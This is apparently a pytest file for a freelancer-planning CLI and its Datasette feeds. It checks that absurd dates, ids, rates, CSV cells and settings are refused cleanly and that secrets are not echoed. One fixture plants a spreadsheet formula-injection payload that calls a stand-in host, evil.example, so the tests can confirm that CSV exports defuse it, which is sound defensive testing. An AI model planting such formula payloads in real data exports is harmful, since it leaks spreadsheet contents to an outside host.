"""Every bad input answered: absurd dates, lengths, rates and ids, huge CSV cells, invalid
settings, e-mail addresses in another case, the calendar feeds, and formula cells in Datasette's
CSV exports. Each ends in one sentence naming the field and exit code 2 (or an HTTP 4xx), with
nothing written."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from click.testing import CliRunner
from planning_fixtures import freelancer, past_mission
from publish_fixtures import make_agency

from fmstoolkit import config, planning, pool, publish, serve
from fmstoolkit.cli import cli
from fmstoolkit.errors import Conflict, InvalidInput
from fmstoolkit.models.validation import MAX_CSV_CELL, MAX_MISSION_DAYS

HUGE_ID = "99999999999999999999999"  # 23 digits, past 2**63


def run(*args: str):
    return CliRunner().invoke(cli, list(args))


def count(db, table: str) -> int:
    return db.execute(f"SELECT count(*) FROM {table}").fetchone()[0]


def refused(result, *sentence: str) -> None:
    """Exit code 2, no traceback, and the sentence(s) on stderr."""
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output and result.exception is None or isinstance(
        result.exception, SystemExit)
    for text in sentence:
        assert text in result.stderr


@pytest.fixture
def booked(db):
    """A freelancer with a planned mission starting in two weeks."""
    fid = freelancer(db, "Alice", rate=500)
    mid = planning.create_mission(db, freelancer_id=fid, project="Site", start="2026-12-07",
                                  days=5)
    return {"freelancer": fid, "mission": mid}


def test_dates_outside_the_window_are_refused_with_the_field(db, booked):
    requests = count(db, "requests")
    refused(run("request", "add", "--project", "Site", "--skill", "react", "--start",
                "9999-12-31", "--days", "5"),
            "Field 'start': the date 9999-12-31 is too far from today: give a date from "
            "2024-11-25 to 2029-11-25")
    assert count(db, "requests") == requests
    mission = str(booked["mission"])
    refused(run("mission", "move", mission, "--start", "2019-03-04"),
            "The date 2019-03-04 (start) is too far from today: give a date from 2024-11-25 "
            "to 2029-11-25.")
    refused(run("mission", "move", mission, "--start", "9999-12-31"), "(start) is too far")
    refused(run("mission", "extend", mission, "--to", "9999-12-31"), "(end) is too far")
    refused(run("mission", "extend", mission, "--days", "100000"),
            f"A mission lasts at most {MAX_MISSION_DAYS} working days (about two years).")
    refused(run("freelancers", "list", "--available-from", "9999-12-31", "--days", "5"),
            "out of range")
    refused(run("schedule", "--from", "9999-12-31"), "9999-12-31 is out of range")
    refused(run("requests", "report", "--to", "garbage"), "'garbage' is not a date")
    with pytest.raises(InvalidInput, match="too far from today"):
        planning.add_unavailability(db, booked["freelancer"], "2026-12-01", "9999-12-31")
    # nothing moved
    mission_row = planning.get_mission(db, booked["mission"])
    assert (mission_row["start_date"], mission_row["days"]) == ("2026-12-07", 5)
    assert count(db, "outbox") == 0 and count(db, "unavailability") == 0
    # the edges of the window are accepted
    moved = run("mission", "move", mission, "--start", "2029-11-19", "--no-confirmation")
    assert moved.exit_code == 0, moved.output


def test_rates_are_bounded(db, booked):
    refused(run("request", "add", "--project", "Site", "--skill", "react", "--in-days", "7",
                "--days", "5", "--max-rate", "100000"),
            "Field 'max_rate': input should be less than or equal to 5000")
    with pytest.raises(InvalidInput) as err:
        pool.add_freelancer(db, name="Bob", email="bob@example.org", daily_rate=20)
    assert "Field 'daily_rate': input should be greater than or equal to 50" in str(err.value)
    assert count(db, "freelancers") == 1


def test_ids_past_two_to_the_63_are_a_sentence_not_an_overflow(db, booked):
    for args in (("mission", "show", HUGE_ID), ("freelancers", "show", HUGE_ID),
                 ("assign", "1", HUGE_ID), ("lists", "add", "Best", HUGE_ID),
                 ("offboard", HUGE_ID, "--template"), ("outbox", "retry", HUGE_ID),
                 ("outbox", "cancel", HUGE_ID), ("outbox", "invite", HUGE_ID),
                 ("privacy", "export", HUGE_ID), ("privacy", "forget", HUGE_ID, "--yes")):
        result = run(*args)
        assert result.exit_code == 2, args
        assert f"'{HUGE_ID}' is not a record number: give a whole number from 1 to " \
               "9223372036854775807." in result.stderr
        assert not isinstance(result.exception, OverflowError)
    assert count(db, "lists") == 0


@pytest.mark.parametrize(("name", "value", "sentence"), [
    ("FMS_SMTP_PORT", "twenty-five", "The setting FMS_SMTP_PORT is not valid: input should be a "
     "valid integer, unable to parse string as an integer (it is 'twenty-five')."),
    ("FMS_SMTP_SECURITY", "ssl", "The setting FMS_SMTP_SECURITY is not valid: input should be "
     "'none', 'starttls' or 'tls' (it is 'ssl')."),
    ("FMS_TIMEZONE", "Mars/Olympus", "The setting FMS_TIMEZONE is not valid: unknown time zone "
     "'Mars/Olympus': use a name such as Europe/Paris"),
    ("FMS_SMTP_PASSWORD", "", None),  # a valid (empty) secret: nothing to say
])
def test_an_invalid_setting_is_one_sentence_naming_it(db, monkeypatch, name, value, sentence):
    with monkeypatch.context() as env:
        env.setenv(name, value)
        config.get_settings.cache_clear()
        result = run("freelancers", "list")
    config.get_settings.cache_clear()
    if sentence is None:
        assert result.exit_code == 0
        return
    refused(result, sentence)
    assert len(result.stderr.strip().splitlines()) == 1


def test_a_secret_setting_is_never_repeated(db, monkeypatch):
    with monkeypatch.context() as env:
        env.setenv("FMS_SMTP_PASSWORD", "s3cret-Passw0rd")
        env.setenv("FMS_OUTBOX_LEASE_SECONDS", "-5")
        config.get_settings.cache_clear()
        result = run("freelancers", "list")
    config.get_settings.cache_clear()
    refused(result, "The setting FMS_OUTBOX_LEASE_SECONDS is not valid: input should be greater "
                    "than or equal to 2 (it is '-5').")
    assert "s3cret" not in result.output


# --- CSV -------------------------------------------------------------------------------------


def test_a_one_megabyte_cell_is_a_sentence_and_a_bigger_one_too(db, tmp_path):
    path = tmp_path / "pool.csv"
    path.write_text("name,email,headline\nAlice,alice@example.org," + "x" * 1_000_000 + "\n",
                    encoding="utf-8")
    refused(run("import", "freelancers", str(path)),
            "Line 2, field 'headline': string should have at most 20000 characters")
    path.write_text("name,email,headline\nBob,bob@example.org,short\n"
                    'Alice,alice@example.org,"' + "x" * (MAX_CSV_CELL + 10) + '"\n',
                    encoding="utf-8")
    refused(run("import", "freelancers", str(path)),
            f"pool.csv, line 3: a cell is longer than {MAX_CSV_CELL} characters")
    assert count(db, "freelancers") == 0


def test_an_email_in_another_case_is_the_same_freelancer(db, tmp_path):
    path = tmp_path / "pool.csv"
    path.write_text("name,email,city\nZoé Faure,zoé@exämple.org,Lyon\n", encoding="utf-8")
    assert run("import", "freelancers", str(path)).exit_code == 0
    path.write_text("name,email,city\nZoé Faure,ZOÉ@EXÄMPLE.ORG,Bordeaux\n", encoding="utf-8")
    again = run("import", "freelancers", str(path))
    assert again.exit_code == 0 and "0 created, 1 updated" in again.output
    assert db.execute("SELECT city FROM freelancers").fetchall() == [("Bordeaux",)]
    with pytest.raises(Conflict, match="already has this email address"):
        pool.add_freelancer(db, name="Zoé F.", email="Zoé@Exämple.org")
    assert pool.freelancer_by_email(db, "ZOÉ@exämple.ORG") == 1
    # within one file too
    path.write_text("name,email\nA,straße@example.org\nB,STRASSE@example.org\n", encoding="utf-8")
    refused(run("import", "freelancers", str(path)),
            "Line 3, field 'email': the email address is already on line 2 of this file")
    assert count(db, "freelancers") == 1


# --- Datasette: feeds and CSV exports --------------------------------------------------------


@pytest.fixture
def ds(db, tmp_path):
    ids = make_agency(db)
    mission = ids["missions"][0]
    db.execute("UPDATE notes SET text = ? WHERE mission_id = ?",
               ['=HYPERLINK("http://evil.example/?"&A1,"click")', mission])
    db.execute("UPDATE notes SET text = ? WHERE mission_id = ?",
               ["- a Markdown list\n- with two items", ids["missions"][1]])
    publish.publish(db)
    instance = serve.make_datasette(tmp_path / "notes.db")
    yield instance
    for database in instance.databases.values():
        database.close()


async def test_feeds_answer_404_and_400_not_500(ds):
    for path in (f"/-/calendars/freelancers/{HUGE_ID}.ics", f"/-/calendars/projects/{HUGE_ID}.ics",
                 "/-/calendars/freelancers/9223372036854775808.ics"):
        assert (await ds.client.get(path)).status_code == 404, path
    for query in ("since=9999-12-31", "until=9999-12-31", "since=0001-01-01", "since=garbage",
                  "since=2026-13-45"):
        response = await ds.client.get(f"/-/calendars/agency.ics?{query}")
        assert response.status_code == 400, query
        assert "YYYY-MM-DD" in response.text
    assert (await ds.client.get("/-/calendars/agency.ics?since=2026-01-01")).status_code == 200
    assert (await ds.client.get(f"/notes/freelancers/{HUGE_ID}")).status_code == 404


async def test_csv_exports_neutralise_formula_cells(ds):
    response = await ds.client.get("/notes/notes.csv?_size=max&_labels=off")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    texts = {r["text"] for r in rows}
    assert """'=HYPERLINK("http://evil.example/?"&A1,"click")""" in texts
    assert "'- a Markdown list\n- with two items" in texts
    assert not any(t.startswith(("=", "+", "-", "@")) for row in rows for t in row.values())
    streamed = await ds.client.get("/notes/notes.csv?_stream=on&_size=max")
    assert streamed.status_code == 200
    assert list(csv.DictReader(io.StringIO(streamed.text))) == rows
    # the HTML page and the JSON API keep the text as written
    data = (await ds.client.get("/notes/notes.json?_shape=array")).json()
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in {r["text"] for r in data}


def test_old_dates_already_stored_still_read(db):
    """The window bounds what is typed, not what is stored: a mission of 2019 still shows."""
    fid = freelancer(db, "Old timer")
    mid = past_mission(db, fid, "2019-03-04", "2019-03-08")
    assert run("mission", "show", str(mid)).exit_code == 0
    assert planning.get_mission(db, mid)["start_date"] == dt.date(2019, 3, 4).isoformat()
